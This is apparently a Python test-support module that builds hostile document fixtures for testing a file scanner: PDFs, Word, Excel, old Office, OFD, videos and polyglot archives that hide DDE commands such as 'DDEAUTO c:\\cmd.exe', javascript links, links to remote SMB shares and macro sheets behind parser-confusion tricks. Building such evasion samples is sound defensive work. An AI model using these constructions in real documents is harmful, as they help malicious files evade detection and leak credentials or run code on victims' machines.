"""Hostile files that programs read otherwise than a simple check does: entries written twice, revisions, alternatives, broken objects."""

import struct
import zlib
from collections.abc import Callable, Iterator
from uuid import UUID

from tests.support import evidence_files as make
from tests.support import hostile_files as hostile
from tests.support.hostile_files import HostileFile

FORM = "<</XFA 5 0 R/Fields[]>>"
WEB = "<</S/URI/URI(http://10.1.2.3/)>>"
SHARE = "<</S/URI/URI(file://10.1.2.3/s)>>"


def _objects(
    content: str,
    *,
    head: str = "9 0 ",
    first: str = "",
    count: int = 1,
    entries: str = "",
    packed: Callable[[bytes], bytes] = bytes,
) -> str:
    """Return an object stream with its table written in this way."""
    dictionary = f"/Type/ObjStm/N {count}/First {first or len(head)}{entries}"
    return hostile.stream(dictionary, packed(f"{head}{content}".encode("latin-1")))


def _form(*objects: str) -> bytes:
    return make.pdf(catalog="/AcroForm 9 0 R", more=objects)


def _difference(content: bytes) -> bytes:
    """Pack with the predictor that keeps differences between neighbours, in rows of eight."""
    rows = [content[at : at + 8].ljust(8) for at in range(0, len(content), 8)]
    return zlib.compress(
        b"".join(
            b"\1" + bytes((each - before) & 255 for before, each in zip(b"\0" + row, row, strict=False)) for row in rows
        )
    )


def _link(action: str, *more: str) -> bytes:
    return hostile.page_with(f"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A {action}>>]", *more)


def _pdf() -> Iterator[tuple[str, bytes]]:
    flate, both = "/Filter/FlateDecode", "/Filter[/ASCIIHexDecode/FlateDecode]"
    twice = _form(_objects(FORM, entries="/Filter 5 0 R", packed=zlib.compress), "/FlateDecode")
    yield (
        "objects begin where a reference says",
        make.pdf(catalog="/OpenAction 9 0 R", more=[_objects(WEB, first="5 0 R"), "4"]),
    )
    yield "objects begin at a fraction", make.pdf(catalog="/OpenAction 9 0 R", more=[_objects(WEB, first="4.0")])
    yield "a comment in the table of objects", _form(_objects(FORM, head="%3\n9 0 "))
    yield (
        "an object that begins in another",
        _form(_objects(f"<</X({'x' * 200})/XFA 5 0 R>>", head="9 0 8 30 ", count=2)),
    )
    yield (
        "an object that begins in a list",
        make.pdf(more=[_objects(f"[<<>>/X{'x' * 200}{FORM}]", head="9 0 8 30 ", count=2)]),
    )
    for parameters in ("[null]", " null"):
        packed = _objects(
            FORM, entries=f"{both}/DecodeParms{parameters}", packed=lambda c: hostile.hexed(zlib.compress(c))
        )
        yield f"settings for one of two filters,{parameters}", _form(packed)
    for name in ("DCTDecode", "JPXDecode", "JBIG2Decode", "CCITTFaxDecode", "Crypt"):
        yield f"objects packed by {name}", _form(_objects(FORM, entries=f"/Filter/{name}", packed=zlib.compress))
    yield "a filter with two meanings", twice.replace(b"xref\n0 ", b"5 0 obj\n/DCTDecode\nendobj\nxref\n0 ", 1)
    yield (
        "another name of settings",
        _form(_objects(FORM, entries=f"{flate}/DP<</Predictor 15/Columns 8>>", packed=_difference)),
    )
    yield "a form written twice", make.pdf(catalog="/AcroForm<<>>/AcroForm<</XFA 5 0 R>>")
    yield "a dictionary written twice", make.pdf(catalog=f"/X 1/X<</OpenAction{WEB}>>")
    yield "notes written twice", _link(SHARE).replace(b"/Annots", b"/Annots[]/Annots")
    yield (
        "a dictionary written twice that reaches into another",
        _form(_objects(f"<</X 1{' ' * 90}/X{FORM}>>", head="9 0 8 10 ", count=2)),
    )
    yield (
        "an action whose number is a fraction",
        _link("9 0 R").replace(b"xref\n0 ", f"9.0 0 obj{SHARE}endobj\nxref\n0 ".encode(), 1),
    )
    yield "an action behind two references", _link("5 0 R", "6 0 R", SHARE)
    yield (
        "the base of addresses behind a reference",
        make.pdf(catalog="/URI 4 0 R", more=["<</Base(file://10.1.2.3/)>>"]),
    )
    long = _objects(f"<</A(endstream)>> {FORM}", head="8 0 9 18 ", count=2)
    for between in (" " * 40, "%x\n%y\n"):
        yield (
            f"objects behind the word that ends a stream, {len(between)}",
            _form(long.replace("\nendstream", f"\n{between}endstream")),
        )
    yield (
        "a length with two meanings",
        _form(*with_length_elsewhere(long)).replace(b"xref\n0 ", b"5 0 obj 9 endobj\nxref\n0 ", 1),
    )
    yield "a script of a model", make.pdf(more=[hostile.stream("/Type/3D/Subtype/U3D/OnInstantiate 5 0 R", b"x")])


def with_length_elsewhere(stream: str) -> tuple[str, str]:
    """Return the stream with its length in object 5, and that object."""
    before, _, after = stream.partition("/Length ")
    length, _, rest = after.partition(">>")
    return f"{before}/Length 5 0 R>>{rest}", length


def _alternatives(first: str, second: str) -> str:
    space = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
    both = f'<mc:Choice Requires="z">{first}</mc:Choice><mc:Fallback>{second}</mc:Fallback>'
    return f"<mc:AlternateContent {space}>{both}</mc:AlternateContent>"


def _settings(content: str) -> bytes:
    return make.docx({"word/settings.xml": f"<w:settings {hostile.SPACE}>{content}</w:settings>"})


def _vml(content: str) -> bytes:
    spaces = " ".join(
        f'xmlns:{short}="urn:schemas-microsoft-com:{name}"' for short, name in (("v", "vml"), ("x", "office:excel"))
    )
    return make.docx({"word/a.vml": f"<xml {spaces}>{content}</xml>"})


def _word() -> Iterator[tuple[str, bytes]]:
    char, instr = hostile.char, hostile.instr
    begin, separate, end = char("begin"), char("separate"), char("end")
    dde, page = "DDEAUTO c:\\\\cmd.exe x ", " PAGE "
    deleted = f"<w:del><w:r><w:delInstrText>{page}</w:delInstrText></w:r></w:del>"
    moved = f"<w:moveFrom>{instr(page)}</w:moveFrom>"
    for what, content in (
        ("in one of two ways of writing", begin + _alternatives(instr(page), instr(dde)) + separate + end),
        ("behind an end in one of two ways", begin + _alternatives(separate, "") + instr(dde) + end),
        ("behind an ordinary text", f"{begin}<w:r><w:t>PAGE </w:t></w:r>{instr(dde)}{separate}{end}"),
        ("behind deleted text", begin + deleted + instr(dde) + separate + end),
        ("behind moved text", begin + moved + instr("SET a") + separate + instr(dde) + end),
        ("behind another name", begin + instr(page + dde) + separate + end),
        ("in an element in a code", f"{begin}<w:r><w:instrText><w:x/>{dde}</w:instrText></w:r>{end}"),
        ("with an invisible character", hostile.field("\u200b" + dde)),
        ("in wide letters", hostile.field("ＤＤＥＡＵＴＯ c:\\\\cmd.exe x")),
    ):
        yield f"DDE {what}", hostile.word(content)
    for content in (
        '<v:shape href="\\\\10.1.2.3\\s\\a.exe"/>',
        '<v:shape href="javascript:alert(1)"/>',
        '<v:image src="http://10.1.2.3/a.png"/>',
        "<x:ClientData><x:FmlaMacro>'\\\\10.1.2.3\\[a.xlsm]'!x</x:FmlaMacro></x:ClientData>",
    ):
        yield f"an old drawing with {content[:22]}", _vml(content)
    video = (
        'xmlns:v="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" embeddedHtml="&lt;iframe/&gt;"'
    )
    yield "a film of a web page", hostile.word(f"<v:webVideoPr {video}/>")
    yield "a database for letters", _settings('<w:mailMerge><w:odso><w:udl w:val="Provider=x"/></w:odso></w:mailMerge>')
    library = "http://schemas.openxmlformats.org/schemaLibrary/2006/main"
    schema = (
        f'<l:schemaLibrary xmlns:l="{library}"><l:schema l:manifestLocation="http://10.1.2.3/m.xml"/></l:schemaLibrary>'
    )
    yield "a schema from the web", _settings(schema)
    properties = f"{make.RELATIONS}/officeDocument/2006/extended-properties"
    base = f"<Properties xmlns='{properties}'><HyperlinkBase>\\\\10.1.2.3\\s\\</HyperlinkBase></Properties>"
    yield "a share as the base of links", make.docx({"docProps/app.xml": base})
    page_space = 'xmlns="http://www.w3.org/1999/xhtml"'
    for content in (
        f'<foreignObject><img {page_space} src="x" onerror="x()"/></foreignObject>',
        f'<foreignObject><p {page_space} style="background:url(http://10.1.2.3/a)"/></foreignObject>',
        f"<foreignObject><form {page_space}/></foreignObject>",
        '<rect fill="\\75rl(http://10.1.2.3/a.svg#a)"/>',
        '<style>@\\69mport "http://10.1.2.3/a.css";</style>',
        '<style>a{background:image-set("http://10.1.2.3/a.png" 1x)}</style>',
        '<set attributeName="onload" to="x"/>',
        '<handler xmlns="http://www.w3.org/2001/xml-events">1</handler>',
        '<image xml:base="http://10.1.2.3/" href="a.png"/>',
    ):
        yield f"a drawing with {content[:70]}", _drawing(content)
    yield "a drawing with a style sheet", _drawing("", '<?xml-stylesheet href="http://10.1.2.3/a.css"?>')
    broken: dict[str, make.Tree] = {
        "a wrapped program": {"\x01Ole10Native": b"a.exe"},
        "a control": {"\x03OCXNAME": b"x"},
    }
    broken["macros"] = {"_VBA_PROJECT_CUR": {"VBA": {"dir": b"x"}}}
    for what, streams in broken.items():
        yield f"{what} in a broken object", make.docx({"word/a.bin": _broken(streams), "word/b.bmp": hostile.NOISE})
    unreadable = _broken(broken["a wrapped program"])
    yield (
        "an object with another byte order",
        make.docx({"word/a.bin": unreadable[:28] + b"\0\0" + unreadable[30:], "word/b.bmp": hostile.NOISE}),
    )
    yield "another package in its comment", _with_package_as_comment(hostile.word(hostile.field(dde)), make.docx())


def _drawing(content: str, before: str = "") -> bytes:
    return hostile.typed(
        "word/media/a.svg", "image/svg+xml", f'{before}<svg xmlns="http://www.w3.org/2000/svg">{content}</svg>'
    )


def _broken(streams: make.Tree) -> bytes:
    """Return a compound file one stream of which is missing."""
    content = bytearray(make.compound({**streams, "Zone": b"z"}))
    struct.pack_into("<L", content, content.index("Zone\0".encode("utf-16-le")) + 116, 0xFFFFF0)
    return bytes(content)


def _with_package_as_comment(harmful: bytes, harmless: bytes) -> bytes:
    """Return a package whose comment ends with another: programs differ in which directory they take."""
    inner, shift = bytearray(harmless), len(harmful)
    end = inner.rindex(b"PK\5\6")
    count, _, at = struct.unpack_from("<H2L", inner, end + 10)
    struct.pack_into("<L", inner, end + 16, at + shift)
    for _ in range(count):
        struct.pack_into("<L", inner, at + 42, struct.unpack_from("<L", inner, at + 42)[0] + shift)
        at += 46 + sum(struct.unpack_from("<3H", inner, at + 28))
    comment = bytes(inner) + b"\n"
    return harmful[:-2] + struct.pack("<H", len(comment)) + comment


def _excel() -> Iterator[tuple[str, bytes]]:
    for text in (
        "'\\\\10.1.2.3\\s\\[a.xlsx]S'!A1",
        "'http://10.1.2.3/[a.xlsx]S'!A1",
        "HYPERLINK(&quot;fi&quot;&amp;&quot;le://10.1.2.3/a.exe&quot;)",
        "FILES(&quot;\\\\10.1.2.3\\s\\*&quot;)",
        "FOPEN(&quot;a&quot;)",
        "_xlfn._xlws.PY(0,1)",
        "_xlfn.IMPORTTEXT(&quot;http://10.1.2.3/a.txt&quot;)",
        "_xlfn.IMPORTCSV(A1)",
        "_xlfn.STOCKHISTORY(&quot;X&quot;,1)",
        "_xlfn.TRANSLATE(A1,&quot;zh&quot;,&quot;en&quot;)",
        "_xlfn.DETECTLANGUAGE(A1)",
        "_xlfn.COPILOT(&quot;总结&quot;,A1:A9)",
        "WEB<x/>SERVICE(&quot;http://10.1.2.3/&quot;)",
    ):
        yield f"the formula {text[:30]}", hostile.formula(text)
    pictures = "http://schemas.microsoft.com/office/spreadsheetml/2020/richdatawebimage"
    yield "pictures of the web in cells", hostile.sheet_with({"xl/a.xml": f'<webImagesSrd xmlns="{pictures}"/>'})
    macros = "http://schemas.microsoft.com/office/excel/2006/main"
    yield "a macro sheet by its element", hostile.sheet_with({"xl/a.xml": f'<m:macrosheet xmlns:m="{macros}"/>'})
    yield "a sheet of dialogs by its element", hostile.sheet_with({"xl/a.xml": f"<dialogsheet {hostile.EXCEL}/>"})
    yield (
        "a macro of a workbook on a share",
        hostile.sheet_with({"xl/a.xml": "<a macro=\"'\\\\10.1.2.3\\a.xlsm'!x\"/>"}),
    )
    publish = '<webPublishItem destinationFile="\\\\10.1.2.3\\a.htm" autoRepublish="1"/>'
    yield (
        "a sheet published to a share",
        hostile.sheet_with({"xl/a.xml": f"<worksheet {hostile.EXCEL}>{publish}</worksheet>"}),
    )


BOF, EOF = struct.pack("<2H4H8x", 0x0809, 16, 0x0600, 5, 0, 0), struct.pack("<2H", 0x000A, 0)
DDE_RECORD = hostile.record(0x01AE, struct.pack("<2HB", 1, 9, 0) + b"cmd\x03/calc")


def hyperlink(target: str, *, as_file: bool = False, long_name: str = "", as_text: bool = False) -> bytes:
    """Return the record of a hyperlink in an old workbook."""
    head = (
        bytes(8)
        + UUID("79EAC9D0-BAF9-11CE-8C82-00AA004BA90B").bytes_le
        + struct.pack("<2L", 2, 0x101 if as_text else 3)
    )
    if as_text:
        return hostile.record(0x01B8, head + struct.pack("<L", len(target)) + target.encode("utf-16-le"))
    if not as_file:
        address = f"{target}\0".encode("utf-16-le")
        moniker = UUID("79EAC9E0-BAF9-11CE-8C82-00AA004BA90B").bytes_le + struct.pack("<L", len(address)) + address
        return hostile.record(0x01B8, head + moniker)
    short, long = target.encode("gb18030") + b"\0", long_name.encode("utf-16-le")
    moniker = UUID("00000303-0000-0000-C000-000000000046").bytes_le + struct.pack("<HL", 0, len(short)) + short
    moniker += struct.pack("<2H", 0xFFFF, 0xDEAD) + bytes(20) + struct.pack("<L", len(long) + 6 if long else 0)
    return hostile.record(0x01B8, head + moniker + (struct.pack("<LH", len(long), 3) + long if long else b""))


def slide_link(target: str) -> bytes:
    """Return an old presentation with a hyperlink."""
    text = target.encode("utf-16-le")
    atoms = struct.pack("<HHLL", 0, 0x0FD3, 4, 1) + struct.pack("<HHL", 0x10, 0x0FBA, len(text)) + text
    return hostile.ppt_with(struct.pack("<HHL", 0xF, 0x0FD7, len(atoms)) + atoms)


def cell(tokens: bytes) -> bytes:
    """Return an old workbook with a formula."""
    return make.xls(records=EOF + hostile.record(0x0006, bytes(20) + struct.pack("<H", len(tokens)) + tokens))


def drawn_picture(name: str, flags: int) -> bytes:
    """Return the properties of a picture in an old file: 8 means that it is linked."""
    text = f"{name}\0".encode("utf-16-le")
    properties = struct.pack("<HLHLHL", 0x4104, 1, 0xC105, len(text), 0x0106, flags)
    return struct.pack("<HHL", 0x33, 0xF00B, len(properties) + len(text)) + properties + text


def _old() -> Iterator[tuple[str, str, bytes]]:
    for what, harmful in (("DDE", DDE_RECORD), ("a macro sheet", make.bound_sheet(1))):
        yield (
            "xls",
            f"{what} in the stream for old programs",
            make.compound({"Workbook": BOF + EOF, "Book": BOF + harmful + EOF}),
        )
    twice = make.compound({"Workbook": BOF + DDE_RECORD + EOF, "Workbooj": BOF + EOF})
    yield (
        "xls",
        "two workbooks of one name",
        twice.replace("Workbooj".encode("utf-16-le"), "Workbook".encode("utf-16-le")),
    )
    yield (
        "et",
        "a macro sheet behind four megabytes",
        make.xls(records=hostile.record(0xFF, bytes(8000)) * 600 + make.bound_sheet(1)),
    )
    yield (
        "xls",
        "a macro sheet that is listed as a sheet",
        make.xls(records=EOF + struct.pack("<2H4H8x", 0x0809, 16, 0x600, 0x40, 0, 0)),
    )
    for kind, what in ((0x0813, "real-time data"), (0x080A, "a connection"), (0x0805, "a query of a text")):
        yield "xls", what, make.xls(records=hostile.record(kind, bytes(20)))
    for record in (
        hyperlink("\\\\10.1.2.3\\s"),
        hyperlink("javascript:alert(1)"),
        hyperlink("C:\\Windows\\calc.exe", as_file=True),
        hyperlink("\\\\10.1.2.3\\a.doc", as_file=True),
        hyperlink("a.doc", as_file=True, long_name="\\\\10.1.2.3\\a.doc"),
        hyperlink("file://10.1.2.3/a", as_text=True),
    ):
        yield "xls", f"a link of {len(record)} bytes", make.xls(records=EOF + record)
    for target in ("\\\\10.1.2.3\\s\\a.doc", "javascript:alert(1)", "C:\\a.exe"):
        yield "ppt", f"a link to {target}", slide_link(target)
    for name, index in (("CALL", 150), ("REGISTER.ID", 267), ("RTD", 379)):
        yield "xls", f"the function {name}", cell(b"\x17\x01\x00a\x42\x03" + struct.pack("<H", index))
    picture = drawn_picture("http://10.1.2.3/a.png", 8)
    yield "ppt", "a picture from the web", hostile.ppt_with(picture)
    yield "xls", "a picture from the web", make.xls(records=hostile.record(0x00EC, picture))
    yield "doc", "a picture from the web in a drawing", make.compound({**make_doc(), "0Table": bytes(99) + picture})
    for class_id in (
        "D27CDB6E-AE6D-11CF-96B8-444553540000",
        "79EAC9E0-BAF9-11CE-8C82-00AA004BA90B",
        "ECABB0C7-7F19-11D2-978E-0000F8757E2A",
    ):
        carrier = make.doc({"ObjectPool": {"_1": {"\x01CompObj": b"x"}}})
        yield "doc", f"an object of the class {class_id[:8]}", hostile.with_class(carrier, "_1", class_id)
    yield (
        "doc",
        "DDE behind another name",
        make.compound(hostile.word_text("\x13 PAGE DDEAUTO c:\\\\cmd.exe x \x14y\x15")),
    )


def make_doc() -> make.Tree:
    return {"WordDocument": struct.pack("<HH6xH", 0xA5EC, 0x00C1, 0)}


def _ofd() -> Iterator[tuple[str, bytes]]:
    space = 'xmlns:ofd="http://www.ofdspec.org/2016"'
    for what, content in (
        (
            "a share as the base of a link",
            '<ofd:Action Event="CLICK"><ofd:URI URI="a" Base="file://10.1.2.3/"/></ofd:Action>',
        ),
        (
            "a picture from the web",
            "<ofd:MultiMedia><ofd:MediaFile>http://10.1.2.3/a.png</ofd:MediaFile></ofd:MultiMedia>",
        ),
        ("a page on a share", '<ofd:Pages><ofd:Page BaseLoc="\\\\10.1.2.3\\a.xml"/></ofd:Pages>'),
    ):
        yield what, make.ofd({"Doc_0/a.xml": f"<ofd:Page {space}>{content}</ofd:Page>"})


def _films() -> Iterator[tuple[str, str, bytes]]:
    address = b"\0\0\0\0url \0\0\0\x18http://10.1.2.3/a.mov\0"
    brand = make.box(b"ftyp", b"qt  " + struct.pack(">L", 512) + b"qt  ")
    movie = make.box(b"rmra", make.box(b"rmda", make.box(b"rdrf", address)))
    yield "mov", "a film that names another", brand + make.box(b"moov", movie) + make.box(b"mdat", bytes(99))
    yield "mp4", "a film whose data are elsewhere", film_of(0, b"http://10.1.2.3/a.mp4\0")


def film_of(flags: int, address: bytes) -> bytes:
    """Return a film with a data reference: flag 1 means that the data are in the file itself."""
    reference = make.box(b"dref", struct.pack(">2L", 0, 1) + make.box(b"url ", struct.pack(">L", flags) + address))
    track = reference
    for name in (b"dinf", b"minf", b"mdia", b"trak"):
        track = make.box(name, track)
    brand = make.box(b"ftyp", b"isom" + struct.pack(">L", 512) + b"isom")
    return brand + make.box(b"moov", make.box(b"mvhd", bytes(100)) + track) + make.box(b"mdat", bytes(99))


def _carried() -> Iterator[tuple[str, str, bytes]]:
    for name in ("a.vbs", "a.PS1", "a.js", "a.url", "a.html", "a.chm. "):
        yield "docx", f"a part called {name}", make.docx({f"word/embeddings/{name}": "x"})
        yield "ofd", f"an attachment called {name}", make.ofd({f"Doc_0/Attachs/{name}": "x"})
    for head in (b"MSCF\0\0\0\0", b"BZh91AY&SY", b"\xfd7zXZ\0\0", b"ITSF\3\0\0\0"):
        yield "docx", f"a part that begins with {head[:4]!r}", make.docx({"word/a.bin": head + bytes(90)})
    yield "ofd", "encrypted, in small letters", make.ofd({"encryptions.xml": "<x/>"})


def _archives_behind() -> Iterator[tuple[str, str, bytes]]:
    """Files that a program for archives opens as well."""
    hidden = make.package({"a.exe": b"MZ"})
    for kind in ("jpg", "png", "webp", "pdf", "mp4"):
        yield kind, "an archive behind it", make.MAKERS[kind]() + hidden
    end = b"\nstartxref\n9\n%%EOF\n"
    inside = hidden[:-2] + struct.pack("<H", len(end)) + end
    yield "pdf", "an archive with the end of a PDF", make.pdf() + inside
    yield "png", "two ends of an archive", make.png() + hidden + b"PK\5\6"
    for head in (b"Rar!\x1a\x07\0", b"Rar!\x1a\x07\x01\0", b"7z\xbc\xaf\x27\x1c\0"):
        yield "jpg", f"an archive {head[:3]!r} behind it", make.jpg() + head + bytes(90)
        yield "pdf", f"an archive {head[:3]!r} behind it", make.pdf() + head + bytes(90)


def disguises() -> list[HostileFile]:
    found = [HostileFile("PDF, disguised", what, "材料.pdf", content) for what, content in _pdf()]
    found += [HostileFile("Word, disguised", what, "材料.docx", content) for what, content in _word()]
    found += [HostileFile("Excel, disguised", what, "材料.xlsx", content) for what, content in _excel()]
    found += [HostileFile("old Office, disguised", what, f"材料.{kind}", content) for kind, what, content in _old()]
    found += [HostileFile("film", what, f"材料.{kind}", content) for kind, what, content in _films()]
    found += [HostileFile("archive", what, f"材料.{kind}", content) for kind, what, content in _archives_behind()]
    found += [HostileFile("carried", what, f"材料.{kind}", content) for kind, what, content in _carried()]
    return found + [HostileFile("OFD, disguised", what, "材料.ofd", content) for what, content in _ofd()]
